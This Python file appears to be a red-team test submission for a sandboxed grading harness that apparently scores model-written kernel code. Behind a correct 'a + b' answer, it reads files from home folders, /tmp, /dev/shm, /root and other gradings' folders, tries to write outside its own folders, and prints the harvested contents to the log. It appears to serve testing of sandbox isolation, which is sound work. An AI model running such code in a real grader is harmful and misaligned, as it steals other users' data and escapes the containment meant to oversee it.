# Escape: reads everything it can find beside the problem, in home folders, in other gradings' folders and
# in the paths named by {{TARGETS}}; tries to write files outside its own folders ({{ESCAPE}}); prints what
# it read (the log is part of the report). Computes the right answer.
import glob
import os
import sys

import torch.nn as nn

loot = []


def grab(path):
    try:
        if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
            with open(path, "rb") as f:
                loot.append(path + ": " + f.read().decode("utf-8", "replace"))
    except OSError:
        pass


problem_dir = os.path.dirname(sys.modules["kg_problem"].__file__)
places = [problem_dir, os.path.dirname(problem_dir), os.path.expanduser("~"), "/root", "/home/*", "/dev/shm/*",
          "/dev/shm/*/*", "/tmp", "/tmp/*", "/work/*", "/srv"] + {{TARGETS}}
for place in places:
    for hit in glob.glob(place):
        grab(hit)
        for root, dirs, files in os.walk(hit):
            for name in files[:200]:
                grab(os.path.join(root, name))
            if root.count("/") > 6:
                dirs[:] = []
wrote = []
for path in {{ESCAPE}}:
    try:
        with open(path, "w") as f:
            f.write("escaped")
        wrote.append(path)
    except OSError:
        pass
print("EXFIL-RAN files read:", len(loot), "written outside:", wrote, flush=True)
print("\n".join(loot)[-3500:], flush=True)


class ModelNew(nn.Module):
    def forward(self, a, b):
        return a + b
